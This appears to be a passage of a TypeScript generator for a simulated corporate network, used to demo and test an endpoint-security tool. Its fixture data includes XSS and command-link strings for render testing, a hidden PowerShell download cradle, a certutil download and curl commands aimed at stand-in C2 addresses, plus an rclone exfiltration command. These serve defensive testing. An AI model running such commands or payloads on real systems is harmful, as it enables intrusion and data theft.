// The simulated organisation ("the story"): machines, DHCP leases, network reports and events, alerts with
// evidence. Deterministic for a seed and an anchor time; every time is relative to the anchor (now).
import { createHash } from 'node:crypto';
import { SeededRandom } from './seededRandom';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

/** Days of history the story covers (hunting and findbyip only see the last 30). */
export const STORY_HISTORY_DAYS = 40;
export const DEMO_DEFAULT_SEED = 20250310;

/** The command-and-control address of the story: seen by six machines in the past 30 days, with alerts. */
export const DEMO_C2_IP = '198.51.100.23';
/** The internal address of the story: held by the holder machine recently, by another machine earlier. */
export const DEMO_INTERNAL_IP = '10.248.240.38';
export const DEMO_HOLDER_NAME = 'fin-ws-017.corp.contoso.com';
export const DEMO_HOLDER_ID = 'b7e3c0f4a1d94e6a8c2f5b0d3e7a9c1f4b6d8e02';
export const DEMO_PREVIOUS_HOLDER_NAME = 'hr-lt-044.corp.contoso.com';
export const DEMO_PREVIOUS_HOLDER_ID = '5d2a8f61c0b34e97a1f6d3c8b2e5a7f90c4d1e36';
/** When each machine held DEMO_INTERNAL_IP, in days before the anchor (from inclusive, to exclusive; 0 = still). */
export const DEMO_INTERNAL_LEASES = {
  holder: { fromDaysAgo: 9, toDaysAgo: 0 },
  previous: { fromDaysAgo: 26, toDaysAgo: 12 },
} as const;
/** The addresses the two holders had before and after holding DEMO_INTERNAL_IP. */
export const DEMO_HOLDER_EARLIER_IP = '10.248.241.112';
export const DEMO_PREVIOUS_HOLDER_EARLIER_IP = '10.248.240.91';
export const DEMO_PREVIOUS_HOLDER_LATER_IP = '10.248.242.15';

/** Benign, widespread destinations: most machines talk to them. */
export const DEMO_BENIGN_IPS = {
  dnsGoogle: '8.8.8.8',
  dnsCloudflare: '1.1.1.1',
  windowsUpdate: '13.107.4.50',
  cdn: '203.0.113.10',
} as const;
/** Rare external addresses, each tied to an alert. */
export const DEMO_RARE_IPS = { scanner: '203.0.113.80', exfiltration: '192.0.2.147' } as const;
/** An IPv6 destination a few machines used. */
export const DEMO_IPV6_IP = '2001:db8:85a3::8a2e:370:7334';
/**
 * The machine view's walk: a second-stage host that only the holder machine talked to (so it comes first, rarest, in
 * that machine's network activity), and a fallback C2 host four of the C2 machines talked to.
 */
export const DEMO_STAGE2_IP = '198.51.100.161';
export const DEMO_C2_FALLBACK_IP = '203.0.113.219';
/** With `scale.busyRemotes`, this internet-facing server accepts connections from that many distinct addresses. */
export const DEMO_BUSY_MACHINE_NAME = 'web-prd-03.corp.contoso.com';
/** A valid address that appears nowhere in the story. */
export const DEMO_UNSEEN_IP = '192.0.2.200';
export const DEMO_DC_IP = '10.20.0.10';
export const DEMO_EGRESS_IP = '192.0.2.10';
/** The edge proxy that holds DEMO_EGRESS_IP on its outer network card (a LocalIP in its network events). */
export const DEMO_EDGE_NAME = 'web-lnx-01.corp.contoso.com';

/** Markup, markdown, command links and other text every surface must show inert. */
export const HOSTILE_STRINGS = {
  script: '<script>alert(1)</script>',
  img: '<img src=x onerror=alert(1)>',
  commandLink: '[link](command:workbench.action.terminal.new)',
  bold: '**bold**',
  backticks: '`whoami`',
  codicon: '$(codicon) $(alert)',
  rtl: '\u202Etxt.exe',
  long: `${'A'.repeat(4000)}-end`,
} as const;

export const DEMO_HOSTILE_MACHINE_NAMES = [
  `${HOSTILE_STRINGS.img}.corp.contoso.com`,
  `eng-ws-${HOSTILE_STRINGS.bold}${HOSTILE_STRINGS.commandLink}.corp.contoso.com`,
  `mac-des-${HOSTILE_STRINGS.rtl}-${HOSTILE_STRINGS.codicon}-${HOSTILE_STRINGS.backticks}.corp.contoso.com`,
] as const;

/** A time within the past 30 days (relative to `now`) when DEMO_HOLDER_NAME held DEMO_INTERNAL_IP. */
export function demoInternalHolderAt(now: number | Date = Date.now()): Date {
  return floorToMinute(toMs(now) - 2 * DAY - 3 * HOUR);
}

/** A time more than 10 days ago (relative to `now`) when DEMO_PREVIOUS_HOLDER_NAME held DEMO_INTERNAL_IP. */
export function demoPreviousHolderAt(now: number | Date = Date.now()): Date {
  return floorToMinute(toMs(now) - 14 * DAY - 3 * HOUR);
}

function toMs(t: number | Date): number {
  return typeof t === 'number' ? t : t.getTime();
}

function floorToMinute(ms: number): Date {
  return new Date(Math.floor(ms / MINUTE) * MINUTE);
}

/** ISO 8601 UTC with seven fractional digits, the way the Defender API writes times. */
export function toApiTime(ms: number): string {
  return new Date(ms).toISOString().replace(/\.(\d{3})Z$/, '.$10000Z');
}

export type MachineKind = 'workstation' | 'laptop' | 'server' | 'linux' | 'mac';

export interface StoryMachine {
  id: string;
  computerDnsName: string;
  kind: MachineKind;
  firstSeen: number;
  lastSeen: number;
  /** Events and reports stop after this time (inactive machines). */
  activeUntil: number;
  osPlatform: string;
  version: string;
  osProcessor: string;
  osArchitecture: string;
  osBuild: number | null;
  lastIpAddress: string;
  lastExternalIpAddress: string;
  healthStatus: string;
  onboardingStatus: string;
  rbacGroupId: number;
  rbacGroupName: string;
  riskScore: string;
  exposureLevel: string;
  deviceValue: string;
  isAadJoined: boolean;
  aadDeviceId: string | null;
  machineTags: string[];
  macAddress: string;
  linkLocalIp: string;
  globalIpv6?: string;
  account: string;
}

export interface Lease {
  machineId: string;
  ip: string;
  from: number;
  /** Exclusive end; Infinity while the machine still holds it. */
  to: number;
}

/** A row of a hunting table: column name to value; datetimes are epoch milliseconds. */
export type StoryRow = Record<string, unknown>;

export interface StoryEvidence {
  entityType: 'Ip' | 'Process' | 'File' | 'User' | 'Url';
  ipAddress?: string;
  url?: string;
  fileName?: string;
  filePath?: string;
  sha1?: string;
  processId?: number;
  processCommandLine?: string;
  accountName?: string;
  domainName?: string;
}

export interface StoryAlert {
  id: string;
  incidentId: number;
  investigationId: number | null;
  title: string;
  description: string;
  severity: 'Informational' | 'Low' | 'Medium' | 'High';
  status: 'New' | 'InProgress' | 'Resolved';
  classification: string | null;
  determination: string | null;
  investigationState: string;
  category: string;
  detectionSource: string;
  detectorId: string;
  assignedTo: string | null;
  machineId: string;
  computerDnsName: string;
  rbacGroupName: string;
  created: number;
  firstEvent: number;
  lastEvent: number;
  lastUpdate: number;
  resolved: number | null;
  mitreTechniques: string[];
  relatedUser: { userName: string; domainName: string } | null;
  comments: { comment: string; createdBy: string; createdTime: number }[];
  evidence: StoryEvidence[];
  /** Local address of the machine when the alert fired (for AlertEvidence rows). */
  localIp: string;
}

/** An indicator the demo tenant already has when a session starts (the simulator copies them into its own state). */
export interface StoryIndicator {
  id: string;
  indicatorValue: string;
  indicatorType: 'IpAddress' | 'FileSha256';
  action: 'Allowed' | 'Audit' | 'Block';
  title: string;
  description: string;
  severity: 'Informational' | 'Low' | 'Medium' | 'High';
  generateAlert: boolean;
  recommendedActions: string | null;
  /** Epoch ms; null: never expires. */
  expirationTime: number | null;
  creationTime: number;
  createdBy: string;
  sourceType: 'User' | 'AadApp';
  rbacGroupNames: string[];
}

/** The indicators of the story: a known-good allow, an audit on the scanner, and a file block (not an IP). */
export const DEMO_INDICATOR_IPS = { allowed: DEMO_BENIGN_IPS.windowsUpdate, audited: DEMO_RARE_IPS.scanner } as const;

export interface StoryScale {
  /** Total network events with DEMO_C2_IP (default ~65); extra ones go to the holder machine's beacons. */
  c2Events?: number;
  /** Multiplier of the background traffic per machine and day (default 1). */
  backgroundTraffic?: number;
  /** Distinct remote addresses (198.18.0.0/15) that connect to DEMO_BUSY_MACHINE_NAME over the last days (default none). */
  busyRemotes?: number;
}

export interface StoryOptions {
  now: number;
  seed?: number;
  scale?: StoryScale;
}

export interface DemoStory {
  seed: number;
  /** The time the story was built for (ms); "N days ago" means before this. */
  anchor: number;
  machines: StoryMachine[];
  leases: Lease[];
  /** DeviceNetworkInfo rows, ordered by time. */
  networkInfo: StoryRow[];
  /** DeviceNetworkEvents rows, ordered by time. */
  networkEvents: StoryRow[];
  alerts: StoryAlert[];
  alertInfo: StoryRow[];
  alertEvidence: StoryRow[];
  machineById: Map<string, StoryMachine>;
  /** Lower-case computer DNS name to machine. */
  machineByName: Map<string, StoryMachine>;
  /** Events whose RemoteIP or LocalIP is the key. */
  eventsByIp: Map<string, StoryRow[]>;
  /** DeviceNetworkInfo rows listing the key in IPAddresses. */
  networkInfoByIp: Map<string, StoryRow[]>;
  /** Alerts whose evidence names the key. */
  alertsByIp: Map<string, StoryAlert[]>;
  /** Indicators the tenant starts with. */
  indicators: StoryIndicator[];
}

interface MachineSpec {
  name: string;
  kind: MachineKind;
  group: string;
  groupId: number;
  tags: string[];
  fixedId?: string;
  staticIp?: string;
}

const WORKSTATION_GROUPS: { code: string; group: string; groupId: number; desktops: number; laptops: number; tags: string[] }[] = [
  { code: 'fin', group: 'Finance-Workstations', groupId: 42, desktops: 24, laptops: 8, tags: ['finance', 'vpn-users'] },
  { code: 'hr', group: 'HR-Workstations', groupId: 43, desktops: 10, laptops: 46, tags: ['hr'] },
  { code: 'eng', group: 'Engineering-Workstations', groupId: 44, desktops: 30, laptops: 20, tags: ['engineering', 'developers'] },
  { code: 'sales', group: 'Sales-Laptops', groupId: 45, desktops: 0, laptops: 25, tags: ['sales', 'vpn-users'] },
  { code: 'it', group: 'IT-Admin', groupId: 46, desktops: 8, laptops: 6, tags: ['it', 'privileged'] },
  { code: 'legal', group: 'Legal-Workstations', groupId: 47, desktops: 6, laptops: 0, tags: ['legal', 'confidential'] },
];

const SERVER_NAMES: [string, number][] = [
  ['dc', 3], ['sql-prd', 4], ['web-prd', 6], ['file-srv', 2], ['app-srv', 8], ['exch', 2],
];
const LINUX_NAMES: [string, number][] = [['lnx-build', 6], ['k8s-node', 12], ['web-lnx', 4]];

const pad = (n: number, width: number): string => String(n).padStart(width, '0');

function machineSpecs(): MachineSpec[] {
  const specs: MachineSpec[] = [];
  for (const g of WORKSTATION_GROUPS) {
    for (let i = 1; i <= g.desktops; i++) {
      specs.push({ name: `${g.code}-ws-${pad(i, 3)}.corp.contoso.com`, kind: 'workstation', group: g.group, groupId: g.groupId, tags: g.tags });
    }
    for (let i = 1; i <= g.laptops; i++) {
      specs.push({ name: `${g.code}-lt-${pad(i, 3)}.corp.contoso.com`, kind: 'laptop', group: g.group, groupId: g.groupId, tags: g.tags });
    }
  }
  let serverHost = 10;
  for (const [prefix, count] of SERVER_NAMES) {
    for (let i = 1; i <= count; i++) {
      specs.push({
        name: `${prefix}-${pad(i, 2)}.corp.contoso.com`, kind: 'server', group: 'Datacenter-Servers', groupId: 7,
        tags: prefix === 'dc' ? ['tier0', 'domain-controller'] : ['servers'], staticIp: `10.20.0.${serverHost++}`,
      });
    }
  }
  let linuxHost = 10;
  for (const [prefix, count] of LINUX_NAMES) {
    for (let i = 1; i <= count; i++) {
      specs.push({ name: `${prefix}-${pad(i, 2)}.corp.contoso.com`, kind: 'linux', group: 'Linux-Servers', groupId: 8, tags: ['linux'], staticIp: `10.30.1.${linuxHost++}` });
    }
  }
  for (let i = 1; i <= 18; i++) {
    specs.push({ name: `mac-des-${pad(i, 3)}.corp.contoso.com`, kind: 'mac', group: 'Design-Macs', groupId: 48, tags: ['design'] });
  }
  specs.push({ name: DEMO_HOSTILE_MACHINE_NAMES[0], kind: 'workstation', group: 'Engineering-Workstations', groupId: 44, tags: ['engineering', HOSTILE_STRINGS.script] });
  specs.push({ name: DEMO_HOSTILE_MACHINE_NAMES[1], kind: 'workstation', group: 'Engineering-Workstations', groupId: 44, tags: [HOSTILE_STRINGS.commandLink] });
  specs.push({ name: DEMO_HOSTILE_MACHINE_NAMES[2], kind: 'mac', group: 'Design-Macs', groupId: 48, tags: ['design', HOSTILE_STRINGS.codicon] });
  for (const s of specs) {
    if (s.name === DEMO_HOLDER_NAME) s.fixedId = DEMO_HOLDER_ID;
    if (s.name === DEMO_PREVIOUS_HOLDER_NAME) s.fixedId = DEMO_PREVIOUS_HOLDER_ID;
  }
  return specs;
}

const FIRST_NAMES = ['jdoe', 'asmith', 'mgarcia', 'lchen', 'pnovak', 'kmuller', 'rsingh', 'tnguyen', 'ebrown', 'ofischer', 'ysato', 'cdubois'];

/** DHCP pools: workstations and laptops, and the Macs. */
const WORKSTATION_POOL = { prefix: '10.248.', thirdFrom: 240, thirdTo: 243, gateway: '10.248.240.1' };
const MAC_POOL = { prefix: '10.248.', thirdFrom: 244, thirdTo: 244, gateway: '10.248.244.1' };
const RESERVED_IPS = new Set([DEMO_INTERNAL_IP, DEMO_HOLDER_EARLIER_IP, DEMO_PREVIOUS_HOLDER_EARLIER_IP, DEMO_PREVIOUS_HOLDER_LATER_IP]);

class LeaseBook {
  private readonly byIp = new Map<string, Lease[]>();
  readonly all: Lease[] = [];

  isFree(ip: string, from: number, to: number): boolean {
    return !(this.byIp.get(ip) ?? []).some((l) => l.from < to && from < l.to);
  }

  add(lease: Lease): void {
    this.all.push(lease);
    const list = this.byIp.get(lease.ip) ?? [];
    list.push(lease);
    this.byIp.set(lease.ip, list);
  }
}

/** Builds the whole story. Pure: the same options give the same story. */
export function buildDemoStory(options: StoryOptions): DemoStory {
  const seed = options.seed ?? DEMO_DEFAULT_SEED;
  const anchor = Math.floor(options.now / 1000) * 1000;
  const rng = new SeededRandom(seed);
  const historyStart = anchor - STORY_HISTORY_DAYS * DAY;
  const specs = machineSpecs();

  // --- machines -------------------------------------------------------------------------------------
  const machines: StoryMachine[] = specs.map((spec, index) => makeMachine(spec, index, rng, anchor));
  const machineByName = new Map(machines.map((m) => [m.computerDnsName.toLowerCase(), m]));
  const byName = (name: string): StoryMachine => {
    const m = machineByName.get(name.toLowerCase());
    if (!m) throw new Error(`story machine missing: ${name}`);
    return m;
  };
  const holder = byName(DEMO_HOLDER_NAME);
  const previousHolder = byName(DEMO_PREVIOUS_HOLDER_NAME);
  const hostile = DEMO_HOSTILE_MACHINE_NAMES.map(byName);
  const linuxC2 = byName('lnx-build-03.corp.contoso.com');
  const oldC2 = byName('app-srv-04.corp.contoso.com');
  const c2Machines = new Set([holder, previousHolder, ...hostile, linuxC2, oldC2]);
  // The story's machines are active throughout and carry the risk their alerts imply.
  for (const m of c2Machines) {
    m.healthStatus = 'Active';
    m.activeUntil = Infinity;
    m.lastSeen = anchor - rng.int(5, 90) * MINUTE;
    m.firstSeen = Math.min(m.firstSeen, anchor - 200 * DAY);
    m.riskScore = m === oldC2 ? 'Low' : 'High';
  }

  const ipv6Machines = ['eng-ws-003', 'eng-ws-004', 'eng-ws-005'].map((n) => byName(`${n}.corp.contoso.com`));
  ipv6Machines.forEach((m, i) => (m.globalIpv6 = `2001:db8:1::1:${(i + 3).toString(16)}`));

  // --- DHCP leases ----------------------------------------------------------------------------------
  const book = new LeaseBook();
  const activeFrom = (m: StoryMachine): number => Math.max(m.firstSeen, historyStart);
  book.add({ machineId: holder.id, ip: DEMO_HOLDER_EARLIER_IP, from: activeFrom(holder), to: anchor - DEMO_INTERNAL_LEASES.holder.fromDaysAgo * DAY });
  book.add({ machineId: holder.id, ip: DEMO_INTERNAL_IP, from: anchor - DEMO_INTERNAL_LEASES.holder.fromDaysAgo * DAY, to: Infinity });
  book.add({ machineId: previousHolder.id, ip: DEMO_PREVIOUS_HOLDER_EARLIER_IP, from: activeFrom(previousHolder), to: anchor - DEMO_INTERNAL_LEASES.previous.fromDaysAgo * DAY });
  book.add({
    machineId: previousHolder.id, ip: DEMO_INTERNAL_IP,
    from: anchor - DEMO_INTERNAL_LEASES.previous.fromDaysAgo * DAY, to: anchor - DEMO_INTERNAL_LEASES.previous.toDaysAgo * DAY,
  });
  book.add({ machineId: previousHolder.id, ip: DEMO_PREVIOUS_HOLDER_LATER_IP, from: anchor - DEMO_INTERNAL_LEASES.previous.toDaysAgo * DAY, to: Infinity });
  const specByMachine = new Map(machines.map((m, i) => [m, specs[i]]));
  for (const m of machines) {
    if (m === holder || m === previousHolder) continue;
    const spec = specByMachine.get(m) as MachineSpec;
    const start = activeFrom(m);
    if (spec.staticIp) {
      book.add({ machineId: m.id, ip: spec.staticIp, from: start, to: Infinity });
      // The edge proxy's outer network card: the organisation's public address (after its internal one, which
      // stays the address its ordinary events come from).
      if (spec.name === DEMO_EDGE_NAME) book.add({ machineId: m.id, ip: DEMO_EGRESS_IP, from: start, to: Infinity });
      continue;
    }
    const pool = m.kind === 'mac' ? MAC_POOL : WORKSTATION_POOL;
    let from = start;
    while (from < anchor) {
      const length = rng.int(2, 10) * DAY + rng.int(0, 23) * HOUR;
      const to = from + length >= anchor ? Infinity : from + length;
      let ip = '';
      for (let attempt = 0; attempt < 1000; attempt++) {
        const candidate = `${pool.prefix}${rng.int(pool.thirdFrom, pool.thirdTo)}.${rng.int(10, 254)}`;
        if (!RESERVED_IPS.has(candidate) && book.isFree(candidate, from, to)) {
          ip = candidate;
          break;
        }
      }
      if (!ip) throw new Error('story: DHCP pool exhausted');
      book.add({ machineId: m.id, ip, from, to });
      from = to;
    }
  }
  const leasesByMachine = new Map<string, Lease[]>();
  for (const l of book.all) {
    const list = leasesByMachine.get(l.machineId) ?? [];
    list.push(l);
    leasesByMachine.set(l.machineId, list);
  }
  for (const list of leasesByMachine.values()) list.sort((a, b) => a.from - b.from);
  const ipAt = (m: StoryMachine, t: number): string => {
    const list = leasesByMachine.get(m.id) ?? [];
    const lease = list.find((l) => l.from <= t && t < l.to) ?? list[list.length - 1];
    return lease?.ip ?? '10.248.240.2';
  };
  for (const m of machines) m.lastIpAddress = ipAt(m, Math.min(anchor - 1, m.activeUntil - 1));

  // --- DeviceNetworkInfo ------------------------------------------------------------------------------
  const networkInfo: StoryRow[] = [];
  const networkInfoByIp = new Map<string, StoryRow[]>();
  let reportId = 1000;
  for (const m of machines) {
    for (const lease of leasesByMachine.get(m.id) ?? []) {
      const end = Math.min(lease.to, m.activeUntil, anchor);
      // The story's address is reported every 15 minutes so findbyip answers any time it was held.
      const step = lease.ip === DEMO_INTERNAL_IP ? 15 * MINUTE : DAY;
      const addresses = leaseAddresses(m, lease.ip);
      for (let t = Math.max(lease.from, historyStart); t < end; t += step) {
        // (No draw for the edge's public address, added later: the rest of the story stays as it was.)
        const jitter = lease.ip === DEMO_INTERNAL_IP || lease.ip === DEMO_EGRESS_IP ? 0 : rng.int(0, 59) * MINUTE;
        const row = networkInfoRow(m, lease.ip, addresses, Math.min(t + jitter, end - 1000), reportId++);
        networkInfo.push(row);
        for (const ip of addresses.list) pushTo(networkInfoByIp, ip, row);
      }
    }
  }
  networkInfo.sort(byTimestamp);
  for (const rows of networkInfoByIp.values()) rows.sort(byTimestamp);

  // --- DeviceNetworkEvents ------------------------------------------------------------------------------
  const events: StoryRow[] = [];
  const traffic = options.scale?.backgroundTraffic ?? 1;
  const emit = (m: StoryMachine, t: number, e: EventSpec, process?: ProcessSpec): void => {
    const local = e.LocalIP ?? ipAt(m, t);
    events.push(networkEventRow(m, t, local, rng, e, process, reportId++));
  };
  for (const m of machines) {
    const from = activeFrom(m);
    for (let d = 0; d < STORY_HISTORY_DAYS; d++) {
      const dayStart = anchor - (d + 1) * DAY;
      const pickTime = (): number | undefined => {
        const t = dayStart + rng.int(0, DAY / 1000 - 1) * 1000;
        return t >= from && t < m.activeUntil && t < anchor - MINUTE ? t : undefined;
      };
      const windows = m.kind !== 'linux' && m.kind !== 'mac';
      for (let rep = 0; rep < traffic; rep++) {
        if (rng.chance(0.6)) {
          const t = pickTime();
          if (t !== undefined) emit(m, t, rng.chance(0.5) ? DNS_GOOGLE : DNS_CLOUDFLARE, dnsProcess(m));
        }
        if (windows && rng.chance(0.35)) {
          const t = pickTime();
          if (t !== undefined) emit(m, t, WINDOWS_UPDATE);
        }
        if (rng.chance(m.kind === 'server' || m.kind === 'linux' ? 0.2 : 0.55)) {
          const t = pickTime();
          if (t !== undefined) emit(m, t, CDN, browserProcess(m, rng));
        }
        if (windows && rng.chance(0.4)) {
          const t = pickTime();
          if (t !== undefined) emit(m, t, rng.pick(DOMAIN_CONTROLLER));
        }
      }
    }
  }

  // The C2 story. Each entry: machine, when (days ago), how many events, what ran.
  const cradle = `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://${DEMO_C2_IP}/a.ps1')"`;
  const c2Base = { RemoteIP: DEMO_C2_IP, RemoteUrl: 'cdn-update.contoso-sync.example' };
  const burst = (m: StoryMachine, daysAgo: number, count: number, e: Partial<EventSpec>): void => {
    const start = anchor - daysAgo * DAY + rng.int(1, 6) * HOUR;
    for (let i = 0; i < count; i++) {
      const t = Math.min(start + i * rng.int(3, 9) * MINUTE + rng.int(0, 59) * 1000, anchor - MINUTE);
      emit(m, t, { ...c2Base, RemotePort: 443, ...e });
    }
  };
  burst(previousHolder, 14, 5, {
    InitiatingProcessFileName: 'powershell.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe',
    InitiatingProcessCommandLine: cradle, InitiatingProcessAccountName: 'mgarcia', RemotePort: 80,
  });
  burst(hostile[0], 3, 4, {
    InitiatingProcessFileName: 'powershell.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe',
    InitiatingProcessCommandLine: `powershell.exe -w hidden -c "${HOSTILE_STRINGS.script}${HOSTILE_STRINGS.img}"`, InitiatingProcessAccountName: HOSTILE_STRINGS.img,
  });
  burst(hostile[1], 5, 3, {
    InitiatingProcessFileName: `${HOSTILE_STRINGS.bold}.exe`, InitiatingProcessFolderPath: `c:\\users\\public\\${HOSTILE_STRINGS.commandLink}.exe`,
    InitiatingProcessCommandLine: `"${HOSTILE_STRINGS.bold}.exe" ${HOSTILE_STRINGS.commandLink} ${HOSTILE_STRINGS.backticks}`, InitiatingProcessAccountName: 'lchen',
    RemotePort: 8443,
  });
  burst(linuxC2, 8, 3, {
    InitiatingProcessFileName: 'curl', InitiatingProcessFolderPath: '/usr/bin/curl',
    InitiatingProcessCommandLine: `curl -s http://${DEMO_C2_IP}/x.sh -H "X: ${HOSTILE_STRINGS.codicon} ${HOSTILE_STRINGS.backticks}" -d ${HOSTILE_STRINGS.long}`,
    InitiatingProcessAccountName: 'deploy', RemotePort: 80,
  });
  burst(hostile[2], 20, 2, {
    InitiatingProcessFileName: `invoice${HOSTILE_STRINGS.rtl}`, InitiatingProcessFolderPath: `/Users/ysato/Downloads/invoice${HOSTILE_STRINGS.rtl}`,
    InitiatingProcessCommandLine: `/Users/ysato/Downloads/invoice${HOSTILE_STRINGS.rtl} --connect ${DEMO_C2_IP}`, InitiatingProcessAccountName: 'ysato',
  });
  burst(oldC2, 35, 2, {
    InitiatingProcessFileName: 'certutil.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\certutil.exe',
    InitiatingProcessCommandLine: `certutil.exe -urlcache -split -f http://${DEMO_C2_IP}/p.bin`, InitiatingProcessAccountName: 'svc-app', RemotePort: 80,
  });
  // The holder machine beacons every few hours over the last six days (its lease on DEMO_INTERNAL_IP began nine days ago).
  const otherC2 = events.filter((e) => e.RemoteIP === DEMO_C2_IP && e.Timestamp as number > anchor - 30 * DAY).length;
  const holderBeacons = Math.max(1, (options.scale?.c2Events ?? otherC2 + 49) - otherC2);
  const beaconFrom = anchor - 6 * DAY;
  const beaconSpan = 6 * DAY - 2 * MINUTE;
  emit(holder, beaconFrom, { ...c2Base, RemotePort: 80, InitiatingProcessFileName: 'powershell.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', InitiatingProcessCommandLine: cradle, InitiatingProcessAccountName: 'jdoe' });
  for (let i = 1; i < holderBeacons; i++) {
    const t = beaconFrom + Math.floor((i / holderBeacons) * beaconSpan) + rng.int(0, 120) * 1000;
    emit(holder, Math.min(t, anchor - MINUTE), {
      ...c2Base,
      RemotePort: rng.chance(0.85) ? 443 : 8443,
      ActionType: rng.chance(0.9) ? 'ConnectionSuccess' : 'ConnectionFailed',
      InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\rundll32.exe',
      InitiatingProcessCommandLine: 'rundll32.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,#1', InitiatingProcessAccountName: 'jdoe',
    });
  }

  // Rare addresses: an external scanner probing two web servers, and an exfiltration upload.
  const web1 = byName('web-prd-01.corp.contoso.com');
  const web2 = byName('web-prd-02.corp.contoso.com');
  const inbound = { ActionType: 'InboundConnectionAccepted', RemotePort: 0, InitiatingProcessFileName: 'System', InitiatingProcessFolderPath: '', InitiatingProcessCommandLine: '', InitiatingProcessAccountName: 'system' };
  for (const [m, daysAgo] of [[web1, 4], [web2, 10], [web1, 10]] as const) {
    const start = anchor - daysAgo * DAY + 2 * HOUR;
    for (let i = 0; i < 2; i++) emit(m, start + i * 37_000, { ...inbound, RemoteIP: DEMO_RARE_IPS.scanner, RemotePort: rng.int(40000, 60000), LocalPort: rng.pick([443, 22, 3389]) });
  }
  const exfil = byName('sales-lt-007.corp.contoso.com');
  for (let i = 0; i < 3; i++) {
    emit(exfil, anchor - 2 * DAY + 4 * HOUR + i * 11 * MINUTE, {
      RemoteIP: DEMO_RARE_IPS.exfiltration, RemotePort: 443, RemoteUrl: 'files.example-share.example',
      InitiatingProcessFileName: 'rclone.exe', InitiatingProcessFolderPath: 'c:\\users\\pnovak\\downloads\\rclone.exe',
      InitiatingProcessCommandLine: 'rclone.exe copy C:\\Users\\pnovak\\Documents remote:backup', InitiatingProcessAccountName: 'pnovak',
    });
  }
  // IPv6: three engineering desktops reach the same IPv6 service.
  for (const [i, m] of ipv6Machines.entries()) {
    for (let k = 0; k < 2; k++) {
      emit(m, anchor - (i + 1 + k * 2) * DAY + 3 * HOUR, {
        RemoteIP: DEMO_IPV6_IP, RemotePort: 443, RemoteUrl: 'ipv6.fabrikam-cdn.example',
        LocalIP: m.globalIpv6, LocalIPType: 'Public', RemoteIPType: 'Public',
      }, browserProcess(m, rng));
    }
  }
  // The organisation's own public address: the edge proxy holds DEMO_EGRESS_IP on its outer network card and accepts
  // connections there, so Defender records that address as a LocalIP of one machine and never as a RemoteIP. A
  // generator of its own keeps every other part of the story as it was.
  const edge = byName(DEMO_EDGE_NAME);
  const edgeRng = new SeededRandom(seed ^ 0x0e6e55);
  for (let d = 0; d < 14; d++) {
    for (let k = 0; k < 3; k++) {
      const t = anchor - (d + 1) * DAY + edgeRng.int(0, DAY / 1000 - 1) * 1000;
      const client = `198.51.100.${245 + edgeRng.int(0, 4)}`; // addresses no sample mentions
      events.push(networkEventRow(edge, t, DEMO_EGRESS_IP, edgeRng, { ...inbound, RemoteIP: client, RemotePort: edgeRng.int(40000, 60000), LocalPort: 443, InitiatingProcessFileName: 'nginx', LocalIPType: 'Public' }, undefined, reportId++));
    }
  }
  // The machine view's walk. A generator of its own, so the rest of the story stays what it was for a seed.
  const walk = new SeededRandom(seed ^ 0x5a17);
  const emitWalk = (m: StoryMachine, t: number, e: EventSpec): void => {
    events.push(networkEventRow(m, t, e.LocalIP ?? ipAt(m, t), walk, e, undefined, reportId++));
  };
  const stage2Start = anchor - 2 * DAY + 5 * HOUR;
  for (let i = 0; i < 3; i++) {
    emitWalk(holder, stage2Start + i * 17 * MINUTE + walk.int(0, 59) * 1000, {
      RemoteIP: DEMO_STAGE2_IP, RemotePort: 443, RemoteUrl: 'update.contoso-sync.example',
      InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\rundll32.exe',
      InitiatingProcessCommandLine: 'rundll32.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,#2', InitiatingProcessAccountName: 'jdoe',
    });
  }
  const fallback: [StoryMachine, number, ProcessSpec][] = [
    [holder, 4, { InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\rundll32.exe', InitiatingProcessCommandLine: 'rundll32.exe C:\\Users\\jdoe\\AppData\\Local\\Temp\\upd.dll,#1', InitiatingProcessAccountName: 'jdoe' }],
    [hostile[0], 3, { InitiatingProcessFileName: 'powershell.exe', InitiatingProcessFolderPath: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe', InitiatingProcessCommandLine: `powershell.exe -w hidden -c "${HOSTILE_STRINGS.script}"`, InitiatingProcessAccountName: HOSTILE_STRINGS.img }],
    [hostile[1], 5, { InitiatingProcessFileName: `${HOSTILE_STRINGS.bold}.exe`, InitiatingProcessFolderPath: `c:\\users\\public\\${HOSTILE_STRINGS.commandLink}.exe`, InitiatingProcessCommandLine: `"${HOSTILE_STRINGS.bold}.exe" ${HOSTILE_STRINGS.backticks}`, InitiatingProcessAccountName: 'lchen' }],
    [linuxC2, 8, { InitiatingProcessFileName: 'curl', InitiatingProcessFolderPath: '/usr/bin/curl', InitiatingProcessCommandLine: `curl -s https://${DEMO_C2_FALLBACK_IP}/y.sh`, InitiatingProcessAccountName: 'deploy' }],
  ];
  for (const [m, daysAgo, process] of fallback) {
    const start = anchor - daysAgo * DAY + walk.int(1, 6) * HOUR;
    for (let i = 0; i < 2; i++) emitWalk(m, start + i * walk.int(5, 15) * MINUTE, { RemoteIP: DEMO_C2_FALLBACK_IP, RemotePort: 8443, RemoteUrl: 'relay.contoso-sync.example', ...process });
  }
  // Benchmark scale: an internet-facing server accepting connections from many distinct addresses, a tenth of which
  // also reached another web server (so their prevalence is 2).
  const busyRemotes = options.scale?.busyRemotes ?? 0;
  if (busyRemotes > 0) {
    const busy = byName(DEMO_BUSY_MACHINE_NAME);
    const other = byName('web-prd-01.corp.contoso.com');
    const from = anchor - 6 * DAY;
    for (let i = 0; i < busyRemotes; i++) {
      const ip = `198.${18 + (i >> 16)}.${(i >> 8) & 255}.${i & 255}`;
